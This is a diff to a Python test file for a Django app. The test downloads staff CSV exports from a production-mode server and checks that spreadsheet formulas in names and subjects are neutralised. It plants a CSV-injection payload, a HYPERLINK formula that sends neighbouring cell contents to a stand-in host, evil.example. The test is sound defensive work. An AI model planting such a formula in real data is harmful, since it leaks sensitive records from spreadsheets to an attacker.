@@ -5,14 +5,15 @@ usual variants; the exports are the ones the Cnam and ARS staff open in a spread
 
 import csv
 import io
+import urllib.request
 
 import pytest
-from django.test import Client
 
 from backend.accounts.services import issue_token
 from backend.core.csv_stream import csv_lines, neutralised
 from mentoring.accelerator import services
 from tests.conftest import make_msp
+from tests.daphne import PRODUCTION_SECRET_KEY
 from tests.helpers import question
 
 PAYLOADS = [
@@ -60,21 +61,26 @@ def test_numbers_stay_numbers():
     assert neutralised(-3) == -3 and neutralised(2.5) == 2.5 and neutralised(None) == ""
 
 
-def _rows(path, user):
-    response = Client().get(path, HTTP_AUTHORIZATION=f"Bearer {issue_token(user).token}")
-    assert response.status_code == 200
-    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
+def _rows(server, path, user):
+    request = urllib.request.Request(
+        f"{server.url}{path}", headers={"Authorization": f"Bearer {issue_token(user).token}"}
+    )
+    with urllib.request.urlopen(request, timeout=30) as response:
+        assert response.status == 200
+        text = response.read().decode("utf-8").lstrip("\ufeff")
     return list(csv.reader(io.StringIO(text), delimiter=";"))
 
 
-@pytest.mark.django_db
-def test_the_exports_staff_open_carry_no_formula(world):
-    """Before: an MSP's name or a question's subject was written as typed, and ran when opened."""
+@pytest.mark.django_db(transaction=True)
+def test_the_exports_staff_open_carry_no_formula(servers, territories, world):
+    """Before: an MSP's name or a question's subject was written as typed, and ran when opened. Downloaded
+    from a real Daphne in production mode, as Cnam staff do."""
+    server = servers(DEBUG="0", SECRET_KEY=PRODUCTION_SECRET_KEY, ALLOWED_HOSTS="127.0.0.1")
     payload = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Voir")'
     make_msp(payload, "51454")
     services.submit(world.user("practitioner").practitioner, question(subject=payload))
     staff = world.user("cnam_staff")
     for path in ("/exports/msps.csv", "/accelerator/requests.csv"):
-        cells = [cell for row in _rows(path, staff)[1:] for cell in row]
+        cells = [cell for row in _rows(server, path, staff)[1:] for cell in row]
         assert "'" + payload in cells, path
         assert payload not in cells, path
